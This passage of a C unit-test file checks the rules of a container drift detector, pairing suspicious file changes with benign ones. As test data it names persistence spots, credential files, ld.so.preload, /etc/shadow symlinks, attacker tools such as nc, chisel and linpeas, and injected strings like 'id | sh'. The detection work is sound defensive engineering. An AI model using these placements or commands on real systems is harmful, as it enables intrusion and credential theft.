/* SPDX-License-Identifier: Apache-2.0 */
/* Every default rule names what it should and not what it should not. */
#include "unit/drift_case.h"

#include "diff/facts.h"
#include "diff/rules.h"

#define E(t, m, ...) (&(const struct sl_entry){.mode = (t) | (m), __VA_ARGS__})
#define REG(m, ...) E(S_IFREG, m, .size = 10, __VA_ARGS__)
#define EMPTY REG(0644, .size = 0)
#define TEXT REG(0644)
#define PROGRAM REG(0755)
#define SUBDIR E(S_IFDIR, 0755)
#define SYMLINK E(S_IFLNK, 0777, .target = {"/dev/null", 9})
#define CHAR_DEVICE E(S_IFCHR, 0600, .rdev_major = 1)
#define BLOCK_DEVICE E(S_IFBLK, 0600, .rdev_major = 8)

#define RUNS .signals = SL_SIGNAL_RUNNING
#define MAPS .signals = SL_SIGNAL_MAPPED

#define ADD(p, e, ...)                                                                             \
	{                                                                                          \
		.kind = SL_CHANGE_ADDED, .path = PATH(p), .after = (e), __VA_ARGS__                \
	}
#define DEL(p, e)                                                                                  \
	{                                                                                          \
		.kind = SL_CHANGE_DELETED, .path = PATH(p), .before = (e)                          \
	}
#define MOD(p, b, a, ...)                                                                          \
	{                                                                                          \
		.kind = SL_CHANGE_MODIFIED, .fields = SL_FIELD_CONTENT, .path = PATH(p),           \
		.before = (b), .after = (a), __VA_ARGS__                                           \
	}
#define TYPE(p, b, a)                                                                              \
	{                                                                                          \
		.kind = SL_CHANGE_TYPE, .fields = SL_FIELD_TYPE, .path = PATH(p), .before = (b),   \
		.after = (a)                                                                       \
	}
#define META(p, f, b, a, ...)                                                                      \
	{                                                                                          \
		.kind = SL_CHANGE_METADATA, .fields = (f), .path = PATH(p), .before = (b),         \
		.after = (a), __VA_ARGS__                                                          \
	}

static const uint8_t raw_caps[20] = {1, 0, 0, 2, 0, 0x20};
static const struct sl_xattr raw[] = {{"security.capability", raw_caps, sizeof(raw_caps)}};
static const uint8_t no_caps[20] = {1, 0, 0, 2};
static const struct sl_xattr empty_set[] = {{"security.capability", no_caps, sizeof(no_caps)}};

/* user::rw-, user:33:rw- or r--, group::r--, mask::rw-, other::--- */
#define LIST(named)                                                                                \
	{                                                                                          \
		2, 0, 0, 0, 1, 0, 6, 0, 255, 255, 255, 255, 2, 0, named, 0, 33, 0, 0, 0, 4, 0, 4,  \
			0, 255, 255, 255, 255, 16, 0, 6, 0, 255, 255, 255, 255, 32, 0, 0, 0, 255,  \
			255, 255, 255                                                              \
	}
static const uint8_t list_rw[] = LIST(6), list_ro[] = LIST(4);
static const struct sl_xattr write_list[] = {{"system.posix_acl_access", list_rw, sizeof(list_rw)}};
static const struct sl_xattr read_list[] = {{"system.posix_acl_access", list_ro, sizeof(list_ro)}};

#define T0 INT64_C(1000000000)
static const struct sl_container container = {
	.mounts = &(struct sl_mount){.path = (char *)(uintptr_t) "/data"},
	.mount_count = 1,
	.has_created = true,
	.created = {T0 + 1000, 0},
	.has_started = true,
	.started = {T0 + 5000, 0}};

#define AT(sec, ...) REG(0644, .fields = SL_ENTRY_CTIME, .ctime = {T0 + (sec), 0}, __VA_ARGS__)
#define DIR_AT(sec, m, ...)                                                                        \
	E(S_IFDIR, m, .fields = SL_ENTRY_CTIME, .ctime = {T0 + (sec), 0}, __VA_ARGS__)
/* Written at one time, by its own account, and at another by the kernel's. */
#define SAYS(wrote, sec, m)                                                                        \
	REG(m, .fields = SL_ENTRY_CTIME | SL_ENTRY_MTIME, .mtime = {T0 + (wrote), 0},              \
	    .ctime = {T0 + (sec), 0})
#define CODE .signals = SL_SIGNAL_SERVER_CODE
#define REWRITTEN .signals = SL_SIGNAL_REWRITTEN
#define MINES .signals = SL_SIGNAL_MINER
#define ORIGIN SL_ENTRY_ORIGIN
/* Born at 9000, changed last at 9001 and a fraction, and says that it was written at @sec. */
#define SET_BACK(p, sec, ns, f)                                                                    \
	MOD(p, TEXT,                                                                               \
	    REG(0644, .fields = SL_ENTRY_CTIME | SL_ENTRY_MTIME | SL_ENTRY_BTIME,                  \
		.mtime = {T0 + (sec), ns}, .ctime = {T0 + 9001, 7}, .btime = {T0 + 9000, 7},       \
		.flags = (f)),                                                                     \
	    .fields = ~0u)
#define SOCKET E(S_IFSOCK, 0777)
#define TO(to) E(S_IFLNK, 0777, .target = {(to), sizeof(to) - 1})
#define MARKED(p, signal)                                                                          \
	{                                                                                          \
		.kind = SL_CHANGE_ADDED, .signals = (signal), .path = PATH(p), .after = TEXT       \
	}
#define PYC "\xa7\x0d\x0d\n\0\0\0\0\1\2\3\4\5\6\7\10"
#define PYC_UNCHECKED "\xa7\x0d\x0d\n\1\0\0\0\1\2\3\4\5\6\7\10"

static const struct {
	const char *rule;
	struct sl_change yes, no;
	const char *yes_head, *no_head; /* first bytes of the content after; a PYC has all 16 */
} rows[] = {
	{"running-not-in-image", ADD("srv/x", TEXT, RUNS), ADD("srv/x", TEXT)},
	{"running-not-in-image", MOD("srv/x", TEXT, TEXT, RUNS),
	 META("srv/x", SL_FIELD_OWNER, PROGRAM, PROGRAM, RUNS)},
	{"mapped-not-in-image", ADD("srv/x.so", TEXT, MAPS), ADD("srv/x.so", TEXT)},
	{"mapped-not-in-image", MOD("srv/x.so", TEXT, TEXT, MAPS),
	 META("srv/x.so", SL_FIELD_MODE, TEXT, TEXT, MAPS)},
	{"known-bad", ADD("srv/x", TEXT, .signals = SL_SIGNAL_KNOWN_BAD),
	 ADD("srv/x", TEXT, .signals = SL_SIGNAL_KNOWN_GOOD)},
	{"setuid-gained", ADD("opt/x", REG(04755)), MOD("opt/x", REG(04755), REG(04755))},
	{"setuid-gained", META("opt/x", SL_FIELD_MODE, REG(0755), REG(04755)),
	 META("opt/x", SL_FIELD_MODE, REG(04755), REG(0755))},
	{"setgid-gained", ADD("opt/x", REG(02755)), ADD("opt/x", E(S_IFDIR, 02755))},
	{"capability-gained",
	 META("opt/x", SL_FIELD_XATTRS, PROGRAM, REG(0755, .xattrs = raw, .xattr_count = 1)),
	 META("opt/x", SL_FIELD_XATTRS, PROGRAM, REG(0755, .xattrs = empty_set, .xattr_count = 1))},
	{"capability-gained", ADD("opt/x", REG(0755, .xattrs = raw, .xattr_count = 1)),
	 META("opt/x", SL_FIELD_XATTRS, REG(0755, .xattrs = raw, .xattr_count = 1), PROGRAM)},
	{"setuid-modified", MOD("opt/su", REG(04755), REG(04755)), MOD("opt/su", REG(04755), TEXT)},
	{"executable-gained", META("opt/x", SL_FIELD_MODE, TEXT, PROGRAM),
	 META("opt/x", SL_FIELD_MODE, PROGRAM, REG(0700))},
	{"world-writable-gained", META("opt/x", SL_FIELD_MODE, TEXT, REG(0666)),
	 META("opt/x", SL_FIELD_MODE, E(S_IFDIR, 0755), E(S_IFDIR, 01777))},
	{"world-writable-gained", META("tmp", SL_FIELD_MODE, E(S_IFDIR, 01777), E(S_IFDIR, 0777)),
	 META("tmp", SL_FIELD_MODE, E(S_IFDIR, 0777), E(S_IFDIR, 01777))},
	{"world-writable-gained",
	 META("opt/x", SL_FIELD_XATTRS, TEXT, REG(0644, .xattrs = write_list, .xattr_count = 1)),
	 META("opt/x", SL_FIELD_XATTRS, TEXT, REG(0644, .xattrs = read_list, .xattr_count = 1))},
	{"program-opened", META("usr/bin/id", SL_FIELD_MODE, PROGRAM, REG(0777)),
	 META("opt/id", SL_FIELD_MODE, TEXT, REG(0666))},
	{"program-opened",
	 META("usr/bin/id", SL_FIELD_XATTRS, PROGRAM,
	      REG(0755, .xattrs = write_list, .xattr_count = 1)),
	 META("usr/bin/id", SL_FIELD_XATTRS, PROGRAM,
	      REG(0755, .xattrs = read_list, .xattr_count = 1))},
	{"program-given-away", META("usr/bin/id", SL_FIELD_OWNER, PROGRAM, REG(0755, .uid = 33)),
	 META("usr/bin/id", SL_FIELD_OWNER, REG(0755, .uid = 33), PROGRAM)},
	{"library-given-away", META("usr/lib/os.py", SL_FIELD_OWNER, TEXT, REG(0644, .uid = 33)),
	 META("srv/app/os.py", SL_FIELD_OWNER, TEXT, REG(0644, .uid = 33))},
	{"system-writable", META("etc/cron.d", SL_FIELD_MODE, SUBDIR, E(S_IFDIR, 0777)),
	 META("srv/app", SL_FIELD_MODE, SUBDIR, E(S_IFDIR, 0777))},
	{"system-directory-redirected", MOD("bin", SYMLINK, SYMLINK),
	 MOD("srv/bin", SYMLINK, SYMLINK)},
	{"encoded-program", ADD("srv/x.txt", TEXT), ADD("srv/x.txt", TEXT), "f0VMRgIBAQAAAAAA",
	 "f0VMR is a text "},
	{"encoded-program", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "7f454c4602010100",
	 "7f454c4699999999"},
	{"passwords-copied", ADD("var/www/s.txt", TEXT), ADD("var/www/s.txt", TEXT),
	 "root:$y$j9T$abcd", "root:x:0:0:root:"},
	{"passwords-copied", ADD("tmp/s", TEXT), ADD("etc/shadow-", TEXT), "root:*:19000:0:9",
	 "root:*:19000:0:9"},
	{"program-new", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "\357\273\277#!/bin/sh",
	 "\357\273\277# title"},
	{"program-new", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "  \n#!/bin/sh\n", "  \n#! note\n"},
	{"archive-disguised", ADD("var/log/x.log", TEXT), ADD("var/log/x.gz", TEXT), "\037\213x",
	 "\037\213x"},
	{"program-disabled", META("usr/bin/ps", SL_FIELD_MODE, PROGRAM, REG(0)),
	 META("usr/bin/ps", SL_FIELD_MODE, PROGRAM, REG(0700))},
	{"ransom-note", ADD("data/a.txt.locked", TEXT), ADD("data/a.lock", TEXT)},
	{"ransom-note", ADD("data/README_RESTORE.txt", TEXT), ADD("data/README.txt", TEXT)},
	{"privilege-policy", ADD("etc/polkit-1/rules.d/1.rules", TEXT),
	 ADD("etc/polkit-1/rules.d", SUBDIR)},
	{"world-writable-system", ADD("etc/x", REG(0666)), ADD("srv/x", REG(0666))},
	{"system-program-changed", MOD("usr/bin/ls", PROGRAM, TEXT), ADD("usr/bin/ls", PROGRAM)},
	{"system-program-changed", TYPE("sbin/init", PROGRAM, SYMLINK),
	 MOD("opt/bin/ls", PROGRAM, PROGRAM)},
	{"system-library-changed", MOD("usr/lib/x86_64-linux-gnu/libc.so.6", PROGRAM, PROGRAM),
	 MOD("usr/lib/os-release", TEXT, TEXT)},
	{"system-library-changed", MOD("lib/libc.so", TEXT, TEXT), MOD("srv/libc.so", TEXT, TEXT),
	 "\177ELF", "\177ELF"},
	{"path-program-new", ADD("usr/local/bin/nc", PROGRAM), ADD("usr/local/bin/README", TEXT)},
	{"path-program-new", ADD("usr/bin/vi", SYMLINK), ADD("usr/share/vi", SYMLINK)},
	{"local-program-changed", MOD("usr/local/bin/run", PROGRAM, PROGRAM),
	 MOD("usr/local/share/run", PROGRAM, PROGRAM)},
	{"system-library-new", ADD("usr/lib/libevil.so", TEXT), ADD("usr/lib/python3/x.py", TEXT),
	 "\177ELF", "#!/u"},
	{"temp-program", ADD("tmp/x", PROGRAM), ADD("tmp/x", TEXT)},
	{"temp-program", ADD("dev/shm/x", TEXT), ADD("dev/shm/x", TEXT), "#!/bin/sh", "\177EL"},
	{"program-changed", MOD("opt/app/server", PROGRAM, PROGRAM),
	 MOD("opt/app/data", TEXT, TEXT)},
	{"program-new", ADD("opt/app/x", PROGRAM), ADD("opt/app/x", TEXT)},
	{"program-new", ADD("opt/app/x", TEXT), ADD("opt/app", SUBDIR), "\177ELF", NULL},
	{"accounts", MOD("etc/passwd", TEXT, TEXT), MOD("etc/passwd-", TEXT, TEXT)},
	{"groups", MOD("etc/subuid", TEXT, TEXT), MOD("srv/etc/group", TEXT, TEXT)},
	{"account-file-opened", META("etc/shadow", SL_FIELD_MODE, REG(0640), REG(0644)),
	 META("etc/shadow", SL_FIELD_MTIME, REG(0640), REG(0640))},
	{"account-file-deleted", DEL("etc/passwd", TEXT), DEL("etc/motd", TEXT)},
	{"sudo", ADD("etc/sudoers.d/web", TEXT), ADD("etc/sudoers.dpkg", TEXT)},
	{"pam", MOD("etc/pam.d/common-auth", TEXT, TEXT), ADD("etc/pam.d", SUBDIR)},
	{"pam", ADD("usr/lib/x/security/pam_evil.so", TEXT), ADD("usr/lib/x/pam_evil.so", TEXT)},
	{"ssh-keys", ADD("root/.ssh/authorized_keys", TEXT), ADD("root/.ssh/known_hosts", TEXT)},
	{"ssh-keys", MOD("home/web/.ssh/authorized_keys2", TEXT, TEXT), ADD("root/.ssh", SUBDIR)},
	{"ssh-config", MOD("etc/ssh/sshd_config", TEXT, TEXT), MOD("etc/ssh/moduli", TEXT, TEXT)},
	{"credentials", ADD("root/.ssh/id_ed25519", TEXT), ADD("root/.ssh/id_ed25519.pub", TEXT)},
	{"loader-preload", ADD("etc/ld.so.preload", TEXT), ADD("etc/ld.so.cache", TEXT)},
	{"loader-cache", MOD("etc/ld.so.cache", TEXT, TEXT), ADD("srv/etc/ld.so.cache", TEXT)},
	{"program-deleted", DEL("usr/bin/ls", PROGRAM), DEL("usr/bin/README", TEXT)},
	{"running-program", MARKED("srv/x", SL_SIGNAL_RUNNING), MARKED("srv/x", SL_SIGNAL_MAPPED)},
	{"mapped-library", MARKED("srv/x", SL_SIGNAL_MAPPED), MARKED("srv/x", SL_SIGNAL_RUNNING)},
	{"preloaded-library", MARKED("srv/x", SL_SIGNAL_PRELOAD), ADD("srv/x", TEXT)},
	{"listed-as-bad", MARKED("srv/x", SL_SIGNAL_KNOWN_BAD),
	 MARKED("srv/x", SL_SIGNAL_KNOWN_GOOD)},
	{"yara-match", MARKED("srv/x", SL_SIGNAL_YARA), ADD("srv/x", TEXT)},
	{"code-changed", MOD("app/main.py", TEXT, TEXT), ADD("app/main.py", TEXT)},
	{"library-code-new", ADD("usr/local/lib/python3.11/x.py", TEXT), ADD("app/x.py", TEXT)},
	{"bytecode-planted", ADD("app/x.pyc", TEXT),
	 ADD("app/__pycache__/x.cpython-311.pyc", TEXT)},
	{"entrypoint-changed", MOD("docker-entrypoint.sh", TEXT, TEXT),
	 ADD("docker-entrypoint.sh", TEXT)},
	{"login-settings", MOD("etc/login.defs", TEXT, TEXT), MOD("etc/logins", TEXT, TEXT)},
	{"ssh-host-key", ADD("etc/ssh/ssh_host_rsa_key", TEXT),
	 ADD("etc/ssh/ssh_host_rsa_key.pub", TEXT)},
	{"remote-access", ADD("usr/sbin/sshd", PROGRAM), ADD("run/sshd", SUBDIR)},
	{"private-key", ADD("srv/x", TEXT), ADD("srv/x", TEXT), "-----BEGIN OPENSSH PRIVATE KEY",
	 "-----BEGIN CERTIFICATE-----"},
	{"cluster-token", ADD("tmp/serviceaccount/token", TEXT), ADD("tmp/token", TEXT)},
	{"key-logger", ADD("var/tmp/.keylog", TEXT), ADD("srv/keys.log", TEXT)},
	{"python-startup", ADD("usr/lib/python3/dist-packages/x.pth", TEXT),
	 ADD("srv/model/x.pth", TEXT)},
	{"php-settings", MOD("usr/local/etc/php/php.ini", TEXT, TEXT),
	 MOD("srv/php.txt", TEXT, TEXT)},
	{"server-module", ADD("etc/nginx/modules-enabled/x.conf", TEXT),
	 ADD("etc/nginx/conf.d/x.conf", TEXT)},
	{"package-source", ADD("etc/apt/sources.list.d/x.list", TEXT),
	 ADD("etc/apt/sources.list.d", SUBDIR)},
	{"server-script-disguised", ADD("srv/x.jpg", TEXT), ADD("srv/x.php", TEXT), "<?php ",
	 "<?php "},
	{"server-script-new", ADD("srv/x.php", TEXT), MOD("srv/x.php", TEXT, TEXT), "<?php ",
	 "<?php "},
	{"log-directory-deleted", DEL("var/log/apt", SUBDIR), DEL("var/log/apt", TEXT)},
	{"log-directory-replaced",
	 {.kind = SL_CHANGE_METADATA,
	  .fields = SL_FIELD_MODE,
	  .signals = SL_SIGNAL_OPAQUE,
	  .path = PATH("var/log"),
	  .before = SUBDIR,
	  .after = SUBDIR},
	 META("var/log", SL_FIELD_MODE, SUBDIR, SUBDIR)},
	{"log-redirected", ADD("var/log/auth.log", SYMLINK), ADD("var/log/auth.log", TEXT)},
	{"history-not-kept", ADD("root/.bash_history", SUBDIR), ADD("root/.bash_history", TEXT)},
	{"hidden-program", ADD("srv/.x", PROGRAM), ADD("srv/.x", TEXT)},
	{"kernel-thread-name", ADD("srv/[kworker]", PROGRAM), ADD("srv/kworker0", TEXT)},
	{"shell-in-name", ADD("srv/a;b", TEXT), ADD("srv/a b", TEXT)},
	{"escape-tool", ADD("srv/kubectl", PROGRAM), ADD("srv/kubectl", TEXT)},
	{"kernel-knob", ADD("srv/release_agent", TEXT), ADD("srv/release_agents", TEXT)},
	{"link-to-kernel", ADD("srv/x", TO("/proc/1/root/etc/shadow")),
	 ADD("srv/x", TO("/proc/self/fd/1"))},
	{"link-to-kernel", ADD("srv/x", TO("/proc/self/fd/7")), ADD("srv/x", TO("/proc/mounts"))},
	{"engine-socket", ADD("run/docker.sock", SOCKET), ADD("run/app.sock", SOCKET)},
	{"network-tool", ADD("usr/bin/nc", PROGRAM), ADD("usr/share/doc/nc", SUBDIR)},
	{"scan-tool", ADD("tmp/fscan_amd64", PROGRAM), ADD("tmp/fscan_amd64", TEXT)},
	{"tunnel-tool", ADD("opt/chisel", PROGRAM), ADD("opt/chisel", SUBDIR)},
	{"exploit-tool", ADD("dev/shm/linpeas.sh", TEXT), ADD("dev/shm/linpeas", SUBDIR)},
	{"build-tool", ADD("usr/bin/gcc-12", PROGRAM), ADD("opt/bin/gcc-12", PROGRAM)},
	{"trace-tool", ADD("usr/bin/gdb", PROGRAM), ADD("usr/share/gdb", SUBDIR)},
	{"packages", MOD("var/lib/dpkg/status", TEXT, TEXT),
	 MOD("var/lib/dpkg/status-old", TEXT, TEXT)},
	{"agent-changed", DEL("opt/datadog-agent/bin/agent", PROGRAM),
	 ADD("opt/datadog-agent/x", TEXT)},
	{"account-file-redirected", TYPE("etc/passwd", TEXT, SYMLINK),
	 TYPE("etc/motd", TEXT, SYMLINK)},
	{"account-file-opened", META("etc/shadow", SL_FIELD_XATTRS, REG(0640), REG(0640)),
	 META("etc/motd", SL_FIELD_XATTRS, REG(0640), REG(0640))},
	{"system-given-away", META("etc/cron.d/x", SL_FIELD_OWNER, TEXT, TEXT),
	 META("etc/nginx/x", SL_FIELD_OWNER, TEXT, TEXT)},
	{"system-given-away", META("usr/bin", SL_FIELD_OWNER, SUBDIR, SUBDIR),
	 META("etc/passwd", SL_FIELD_OWNER, TEXT, TEXT)},
	{"system-opened", META("etc/sudoers", SL_FIELD_MODE, REG(0440), REG(0660)),
	 META("etc/sudoers", SL_FIELD_MTIME, REG(0440), REG(0440))},
	{"system-given-away", META("etc/crontab", SL_FIELD_XATTRS, TEXT, AT(1010)),
	 META("etc/crontab", SL_FIELD_MODE, TEXT, AT(1010))},
	{"system-opened", META("etc/crontab", SL_FIELD_MODE, TEXT, AT(9000)),
	 META("etc/crontab", SL_FIELD_MODE, TEXT, AT(1010))},
	{"log-poisoned", MOD("var/log/nginx/access.log", TEXT, TEXT, CODE),
	 MOD("var/log/nginx/access.log", TEXT, TEXT)},
	{"cron", ADD("var/spool/incron/root", TEXT), ADD("var/spool/incron", SUBDIR)},
	{"init", ADD("etc/sv/x/run", TEXT), ADD("etc/svx", TEXT)},
	{"python-startup", ADD("usr/bin/pyvenv.cfg", TEXT), ADD("app/venv/pyvenv.cfg", TEXT)},
	{"tool-startup", ADD("root/.aws/config", TEXT), ADD("root/.aws/cache", TEXT)},
	{"library-settings", MOD("etc/java-17-openjdk/security/java.security", TEXT, TEXT),
	 ADD("etc/java-17-openjdk", SUBDIR)},
	{"pipe-in-temp", ADD("tmp/f", E(S_IFIFO, 0644)), ADD("run/f", E(S_IFIFO, 0644))},
	{"web-link", ADD("var/www/html/s", TO("/etc/shadow")), ADD("srv/s", TO("/etc/shadow"))},
	{"pipe", ADD("run/systemd/inhibit.ref", E(S_IFIFO, 0600)), ADD("tmp/f", E(S_IFIFO, 0600))},
	{"pipe-at-start",
	 ADD("tmp/logs", E(S_IFIFO, 0600, .fields = SL_ENTRY_CTIME, .ctime = {T0 + 1010, 0})),
	 ADD("tmp/logs", E(S_IFIFO, 0600))},
	{"account-backup", ADD("etc/shadow-", TEXT), ADD("etc/motd-", TEXT)},
	{"ssh-keys", ADD("etc/ssh/keys/root", TEXT), ADD("etc/ssh/moduli", TEXT)},
	{"trusted-hosts", ADD("root/.rhosts", TEXT), ADD("root/.hosts", TEXT)},
	{"shell-startup", ADD("root/.xprofile", TEXT), ADD("root/.xterm", TEXT)},
	{"shell-startup", ADD("usr/share/bash-completion/completions/ls", TEXT),
	 ADD("usr/share/bash-completion", SUBDIR)},
	{"init", ADD("etc/xinetd.d/x", TEXT), ADD("etc/xinetd.d", SUBDIR)},
	{"event-hook", ADD("usr/share/binfmts/x", TEXT), ADD("usr/share/binfmt.txt", TEXT)},
	{"tool-startup", ADD("root/.vim/plugin/x.vim", TEXT), ADD("root/.vim", SUBDIR)},
	{"repository-settings", MOD("srv/x/.git/config", TEXT, TEXT),
	 ADD("srv/x/.git/config", TEXT)},
	{"service-settings", MOD("etc/default/ssh", TEXT, AT(9000)),
	 MOD("etc/default/ssh", TEXT, AT(1010))},
	{"server-settings", ADD("etc/nginx/conf.d/x.conf", AT(9000)),
	 ADD("etc/nginx/conf.d/x.conf", AT(5010))},
	{"java-options", ADD("opt/tomcat/bin/setenv.sh", TEXT), ADD("opt/env.sh", TEXT)},
	{"library-name-new", ADD("usr/lib/libx.so", TEXT), ADD("srv/libx.so", TEXT)},
	{"library-name-new", ADD("usr/lib/x86_64-linux-gnu/libz.so.1", SYMLINK),
	 MOD("usr/lib/x86_64-linux-gnu/libz.so.1", SYMLINK, SYMLINK)},
	{"shared-code-new", ADD("usr/share/perl5/Socket.pm", TEXT),
	 ADD("usr/share/perl5/Socket.pod", TEXT)},
	{"shared-code-new", ADD("srv/node_modules/x/index.js", TEXT),
	 ADD("srv/node_modules/.cache/x/index.js", TEXT)},
	{"script-new", ADD("opt/d.sh", AT(9000)), ADD("opt/d.sh", AT(5010))},
	{"script-new", ADD("opt/d.py", AT(9000)), ADD("opt/d.py", AT(9000)), "impo", "#!/u"},
	{"code-archive-new", ADD("opt/x.jar", AT(9000)), ADD("opt/x.jar", AT(9000)), "PK\3\4",
	 "none"},
	{"web-code-hidden", ADD("var/www/html/readme", TEXT, CODE),
	 ADD("var/www/html/x.php", TEXT, CODE)},
	{"picture-with-code", ADD("srv/x.gif", TEXT, CODE), ADD("srv/x.gif", TEXT)},
	{"server-code-new", ADD("srv/x.html", TEXT, CODE),
	 ADD("usr/share/doc/php/x.html", TEXT, CODE)},
	{"cgi-program", ADD("usr/lib/cgi-bin/status", PROGRAM),
	 ADD("usr/lib/cgi-bin/README", TEXT)},
	{"server-override", ADD("opt/site/.htaccess", AT(9000)),
	 ADD("opt/site/.htaccess", AT(5010))},
	{"servlet-code", ADD("srv/webapps/a/WEB-INF/classes/X.class", AT(9000)),
	 ADD("srv/webapps/a/WEB-INF/classes/X.class", AT(5010))},
	{"web-page", MOD("usr/share/nginx/html/index.html", TEXT, AT(9000)),
	 MOD("usr/share/nginx/html/index.html", TEXT, AT(1010))},
	{"staged-archive", ADD("tmp/x", AT(9000)), ADD("srv/x", AT(9000)), "\037\213", "\037\213"},
	{"backdated", SET_BACK("etc/x", -9000, 4, ORIGIN), SET_BACK("etc/x", 2000, 4, ORIGIN)},
	{"backdated", SET_BACK("etc/x", -9000, 4, ORIGIN), SET_BACK("etc/x", -9000, 4, 0)},
	/* apt gives its lists the time that the server says */
	{"backdated", SET_BACK("usr/share/x", -9000, 4, ORIGIN),
	 SET_BACK("var/lib/apt/lists/x", -9000, 4, ORIGIN)},
	{"backdated-new", ADD("etc/x", SAYS(-9000, 9000, 0644)),
	 ADD("var/lib/apt/lists/x", SAYS(-9000, 9000, 0644))},
	{"backdated-program", ADD("opt/x", SAYS(-9000, 9000, 0755)),
	 ADD("opt/x", SAYS(-9000, 9000, 0644))},
	{"backdated-program", ADD("opt/x", SAYS(-9000, 9000, 0755)),
	 ADD("opt/x", SAYS(-9000, 9000, 0755), .signals = SL_SIGNAL_PACKAGED)},
	{"backdated-new", ADD("opt/x", SAYS(-9000, 9000, 0644)),
	 ADD("opt/x", SAYS(-9000, 9000, 0644), .signals = SL_SIGNAL_RENAMED)},
	/* npm and zip set times that stand for none */
	{"backdated-new", ADD("opt/x", SAYS(-9000, 9000, 0644)),
	 ADD("opt/x", SAYS(-T0 + 499162500, 9000, 0644))},
	/* edited in place an hour after the start, then told a time of before */
	{"time-set-in-place", SET_BACK("etc/x", 8000, 0, ORIGIN),
	 SET_BACK("etc/x", 8000, 4, ORIGIN)},
	{"time-set-in-place", SET_BACK("srv/x", 8000, 0, ORIGIN),
	 SET_BACK("srv/x", 8999, 0, ORIGIN)},
	/* what tar and dpkg unpack is an object of its own */
	{"time-set-in-place", SET_BACK("srv/x", 8000, 0, ORIGIN), SET_BACK("srv/x", 8000, 0, 0)},
	{"borrowed-time", ADD("opt/x", TEXT, .signals = SL_SIGNAL_BORROWED_MTIME),
	 ADD("opt/x", TEXT, .signals = SL_SIGNAL_BORROWED_MTIME | SL_SIGNAL_PACKAGED)},
	{"log-rewritten", MOD("var/log/dpkg.log", TEXT, AT(9000), REWRITTEN),
	 MOD("var/log/dpkg.log", TEXT, AT(9000))},
	{"log-rewritten", MOD("var/log/dpkg.log", TEXT, AT(9000), REWRITTEN),
	 MOD("var/log/dpkg.log", TEXT, AT(5010), REWRITTEN)},
	{"miner-program", ADD("opt/x", PROGRAM, MINES), ADD("opt/x.json", TEXT, MINES)},
	{"miner-settings", ADD("opt/x.json", TEXT, MINES), ADD("etc/falco/r.yaml", TEXT, MINES)},
	{"web-shell-code",
	 ADD("app/x.dat", TEXT, .signals = SL_SIGNAL_SERVER_CODE | SL_SIGNAL_RUNS_INPUT),
	 ADD("var/log/x", TEXT, .signals = SL_SIGNAL_SERVER_CODE | SL_SIGNAL_RUNS_INPUT)},
	{"event-hook", ADD("srv/x.git/hooks/post-receive", TEXT), ADD("etc/mdev.confs", TEXT)},
	{"event-hook", ADD("etc/dpkg/dpkg.cfg", TEXT), ADD("etc/dpkg/origins", TEXT)},
	{"server-module", ADD("usr/local/lib/php/extensions/x/y.so", TEXT),
	 ADD("usr/local/lib/php/x.php", TEXT)},
	{"php-settings", ADD("etc/php83/conf.d/x.ini", TEXT), ADD("etc/phpx", TEXT)},
	{"library-settings", MOD("etc/ssl1.1/openssl.cnf", TEXT, TEXT),
	 MOD("etc/ssl1.1/x.cnf", TEXT, TEXT)},
	{"defence-config", ADD("run/sysctl.d/x.conf", TEXT), ADD("run/sysctl.d", SUBDIR)},
	{"trust-store", ADD("usr/share/pki/x.pem", TEXT), ADD("usr/share/pki", SUBDIR)},
	{"impossible-time", ADD("opt/x", SAYS(9000000, 9000, 0644)),
	 ADD("opt/x", SAYS(90000, 9000, 0644))},
	{"impossible-time", ADD("opt/x", AT(-9000)), ADD("opt/x", AT(-900))},
	{"impossible-time", ADD("opt/x", AT(-9000)),
	 ADD("opt/x", AT(-9000), .signals = SL_SIGNAL_VOLUME)},
	/* benign: what the others leave alone, and never what only looks like it */
	{"pid-file", ADD("run/nginx.pid", TEXT), ADD("run/nginx.pid", TEXT), "42\n", "evil"},
	{"pid-file", MOD("run/nginx.pid", TEXT, TEXT), ADD("run/x.pid", REG(0755)), "42\n", "42\n"},
	{"pid-file", ADD("srv/app/app.pid", TEXT), ADD("usr/lib/x.pid", TEXT), "42\n", "42\n"},
	{"pid-file", ADD("app/gunicorn.pid", TEXT), ADD("app/gunicorn.pid", REG(0644, .size = 99)),
	 "42\n", "42\n"},
	{"lock-file", ADD("var/lib/dpkg/lock", EMPTY), ADD("srv/x.lock", EMPTY)},
	{"lock-file", ADD("run/app.lock", TEXT), ADD("run/app.lock", TEXT), "42\n", "id | sh\n"},
	{"lock-text", ADD("run/app.lock", TEXT), ADD("srv/app.lock", TEXT), "host:42\n",
	 "host:42\n"},
	{"postgresql-lock", ADD("run/postgresql/.s.PGSQL.5432.lock", REG(0600, .uid = 105)),
	 ADD("run/.x.lock", REG(0600, .uid = 105)), "42\n/var", "42\n/var"},
	{"socket", ADD("run/app/app.sock", SOCKET), ADD("srv/app.sock", SOCKET)},
	{"socket", ADD("run/postgresql/.s.PGSQL.5432", SOCKET), ADD("run/docker.sock", SOCKET)},
	{"runtime-directory", ADD("run/nginx", SUBDIR), ADD("run/.nginx", SUBDIR)},
	{"runtime-directory", ADD("run/a/b", SUBDIR), ADD("run/a", E(S_IFDIR, 0777))},
	{"temp-directory", ADD("tmp/.X11-unix", E(S_IFDIR, 01777)), ADD("tmp/.X12-unix", SUBDIR)},
	{"log-growth", MOD("var/log/nginx/access.log", TEXT, REG(0644, .size = 99)),
	 MOD("var/log/nginx/access.log", REG(0644, .size = 99), TEXT), "1.2.", "1.2."},
	{"log-growth", ADD("var/log/x", TEXT), ADD("var/log/x", TEXT), "log", NULL},
	{"log-growth", MOD("var/log/x", TEXT, TEXT), MOD("var/log/x", TEXT, AT(1010), REWRITTEN),
	 "log", "log"},
	{"log-growth", ADD("var/log/x/a.log", TEXT), ADD("var/log/x/a.py", TEXT), "log", "log"},
	{"log-growth", ADD("var/log/x", TEXT), ADD("var/log/x", TEXT), "log", "\1\2"},
	{"log-growth", ADD("var/log/x", TEXT), ADD("var/log/x", TEXT), "log", "#!/bin/sh"},
	{"log-records", ADD("var/log/btmp", TEXT), ADD("var/log/btmp", TEXT), "\6\0", "\177ELF"},
	{"log-records", ADD("var/log/btmp", TEXT), ADD("var/log/x.so", TEXT), "\6\1", "\6\1"},
	{"application-log", MOD("srv/app/app.log", TEXT, REG(0644, .size = 99)),
	 MOD("srv/app/app.log", REG(0644, .size = 99), TEXT), "1.2.", "1.2."},
